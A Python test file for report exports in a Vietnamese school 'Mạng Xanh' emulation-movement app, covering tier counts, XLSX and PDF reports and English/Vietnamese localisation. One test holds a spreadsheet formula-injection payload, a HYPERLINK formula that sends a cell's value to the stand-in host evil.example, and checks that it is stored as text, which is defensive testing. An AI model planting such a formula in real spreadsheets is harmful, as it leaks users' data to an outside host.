import io
from types import SimpleNamespace

from openpyxl import load_workbook
from pypdf import PdfReader

from campaign.greennet import reports, services
from campaign.greennet.models import Tier
from core.schools.models import SchoolLevel


def standing(level, tier):
    return SimpleNamespace(school=SimpleNamespace(level=level), tier=tier)


def test_tier_counts_has_every_level_and_tier_with_zeros():
    rows = [
        standing(SchoolLevel.TH, Tier.GOOD),
        standing(SchoolLevel.TH, Tier.GOOD),
        standing(SchoolLevel.MN, Tier.FAIL),
        standing(SchoolLevel.TH, Tier.EXCELLENT),
    ]

    counts = reports.tier_counts(rows)

    assert counts.to_dict(orient="index") == {
        SchoolLevel.MN: {Tier.EXCELLENT: 0, Tier.GOOD: 0, Tier.PASS: 0, Tier.FAIL: 1},
        SchoolLevel.TH: {Tier.EXCELLENT: 1, Tier.GOOD: 2, Tier.PASS: 0, Tier.FAIL: 0},
        SchoolLevel.THCS: {Tier.EXCELLENT: 0, Tier.GOOD: 0, Tier.PASS: 0, Tier.FAIL: 0},
    }


def test_tier_counts_of_no_school_are_all_zero():
    counts = reports.tier_counts([])

    assert counts.to_numpy().tolist() == [[0, 0, 0, 0]] * 3


def test_district_xlsx_counts_schools_per_level_and_tier(gn, submitted):
    activity = submitted(score=50)
    services.approve_activity(actor=gn["organizer"], activity=activity)

    data = reports.district_xlsx(gn["movement"])

    sheet = load_workbook(io.BytesIO(data))["Xếp loại"]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("Cấp học", "Số trường", "Xuất sắc", "Tốt", "Đạt", "Chưa đạt"),
        ("Mầm non", 0, 0, 0, 0, 0),
        ("Tiểu học", 0, 0, 0, 0, 0),
        ("THCS", 2, 0, 0, 1, 1),
    ]


FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"x")'


def test_school_report_writes_a_formula_looking_activity_title_as_text(gn, new_activity):
    new_activity(title=FORMULA)

    data = reports.school_xlsx(gn["movement"], gn["a"])

    sheet = load_workbook(io.BytesIO(data))["Hoạt động"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


def _english(user, db):
    user.locale = "en"
    db.session.flush()


def _pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_school_xlsx_follows_english(client, login, db, gn, submitted):
    submitted(score=10)
    _english(gn["coord_a"], db)
    login(gn["coord_a"])

    response = client.get(f"/movement/{gn['movement'].id}/schools/{gn['a'].id}/report.xlsx")

    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Summary", "Criteria", "Activities"]
    assert [row[0] for row in book["Summary"].iter_rows(values_only=True)][:4] == [
        "Item",
        "School",
        "School year",
        "Report",
    ]
    activities = list(book["Activities"].iter_rows(values_only=True))
    assert activities[0][:4] == ("Date", "Criterion", "Activity", "Number of participants")
    assert activities[1][6] == "Awaiting approval"


def test_school_xlsx_vietnamese_by_default(client, login, gn, submitted):
    submitted(score=10)
    login(gn["coord_a"])

    response = client.get(f"/movement/{gn['movement'].id}/schools/{gn['a'].id}/report.xlsx")

    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Tổng hợp", "Tiêu chí", "Hoạt động"]
    activities = list(book["Hoạt động"].iter_rows(values_only=True))
    assert activities[0][:4] == ("Ngày", "Tiêu chí", "Hoạt động", "Số người tham gia")
    assert activities[1][6] == "Chờ duyệt"


def test_school_pdf_follows_english(client, login, db, gn):
    _english(gn["coord_a"], db)
    login(gn["coord_a"])

    response = client.get(f"/movement/{gn['movement'].id}/schools/{gn['a'].id}/report.pdf")

    text = _pdf_text(response.data)
    assert "SELF-REVIEW REPORT OF THE “MẠNG XANH” EMULATION\nMOVEMENT" in text
    assert "Points by criterion" in text
    assert "BÁO CÁO" not in text


def test_school_pdf_vietnamese_by_default(client, login, gn):
    login(gn["coord_a"])

    response = client.get(f"/movement/{gn['movement'].id}/schools/{gn['a'].id}/report.pdf")

    text = _pdf_text(response.data)
    assert "BÁO CÁO TỰ ĐÁNH GIÁ PHONG TRÀO THI ĐUA “MẠNG XANH”" in text
    assert "Điểm theo tiêu chí" in text


def test_district_xlsx_follows_english(client, login, db, gn):
    _english(gn["organizer"], db)
    login(gn["organizer"])

    response = client.get(f"/manage/movements/{gn['movement'].id}/report.xlsx")

    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Ranking", "Tiers"]
    assert next(book["Tiers"].iter_rows(values_only=True)) == (
        "Level",
        "Number of schools",
        "Excellent",
        "Good",
        "Pass",
        "Not yet passing",
    )
    assert next(book["Ranking"].iter_rows(values_only=True))[-3:] == (
        "End-of-year review (%)",
        "End-of-year review tier",
        "End-of-year review rank",
    )


def test_district_pdf_follows_english(client, login, db, gn):
    _english(gn["organizer"], db)
    login(gn["organizer"])

    response = client.get(f"/manage/movements/{gn['movement'].id}/report.pdf")

    text = _pdf_text(response.data)
    assert "RESULTS OF THE “MẠNG XANH” EMULATION MOVEMENT" in text
    assert "Level Lower secondary (2 schools)" in text
    assert "TỔNG HỢP" not in text


def test_district_pdf_vietnamese_by_default(client, login, gn):
    login(gn["organizer"])

    response = client.get(f"/manage/movements/{gn['movement'].id}/report.pdf")

    text = _pdf_text(response.data)
    assert "TỔNG HỢP KẾT QUẢ PHONG TRÀO THI ĐUA “MẠNG XANH”" in text
    assert "Cấp THCS (2 trường)" in text
